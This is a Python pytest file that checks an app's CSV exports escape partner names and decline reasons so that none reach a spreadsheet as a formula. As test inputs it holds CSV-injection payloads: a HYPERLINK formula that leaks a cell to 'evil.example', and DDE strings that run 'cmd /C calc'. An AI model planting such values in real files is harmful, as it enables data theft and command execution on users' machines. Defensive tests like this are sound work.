"""Every CSV export keeps what partners typed as text: no cell reaches a spreadsheet as a formula."""

import csv
import io
from datetime import timedelta

import pytest

from partnerhub.core.db import utcnow
from partnerhub.reports import flags

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _steps(path, days_ago=2):
    sent_at = utcnow() - timedelta(days=days_ago)
    return [("sent", sent_at), *[(s, sent_at + timedelta(hours=i + 1)) for i, s in enumerate(path)]]


@pytest.fixture
def hostile_exchange(build):
    """A partner whose name is a formula, and its partnership with Acme."""
    hostile, acme = build.partner(FORMULA_NAME), build.partner("Acme")
    partnership = build.partnership(hostile, acme)
    build.handoff_through(partnership, hostile, _steps(["delivered", "declined"]))
    return hostile, acme, partnership


def test_a_partner_named_like_a_formula_reaches_the_other_sides_balance_csv_as_text(
    client, build, hostile_exchange
):
    _hostile, acme, _partnership = hostile_exchange

    rows = _rows(client.get("/api/v1/balance.csv", headers=build.headers(acme)))

    assert [row["partner"] for row in rows] == ["'" + FORMULA_NAME] * 2


def test_a_partner_named_like_a_formula_reaches_the_flags_csv_as_text(client, build, session):
    hostile, acme = build.partner("@SUM(1+1)*cmd|' /C calc'!A0"), build.partner("Acme")
    partnership = build.partnership(hostile, acme)
    for _ in range(10):
        build.handoff_through(partnership, hostile, _steps(["delivered", "accepted"]), commit=False)
    flags.refresh_flags(session, now=utcnow())
    session.commit()

    rows = _rows(client.get("/api/v1/flags.csv", headers=build.headers(acme)))

    one_sided = next(row for row in rows if row["kind"] == "one_sided")
    assert one_sided["partners"] == "'" + hostile.name + " / Acme"
    assert one_sided["sentence"].startswith("'@SUM(1+1)")


def test_a_decline_reason_like_a_formula_reaches_the_senders_handoffs_csv_as_text(client, build):
    sender, receiver = build.partner("Northwind"), build.partner("Acme")
    handoff = build.handoff(sender, receiver)
    reason = "+cmd|' /C calc'!A0"

    declined = client.post(
        f"/api/v1/handoffs/{handoff.id}/transitions",
        json={"to": "declined", "reason": reason},
        headers=build.headers(receiver),
    )
    rows = _rows(client.get("/api/v1/handoffs.csv", headers=build.headers(sender)))

    assert declined.status_code == 200
    [row] = rows
    assert row["reason"] == "'" + reason
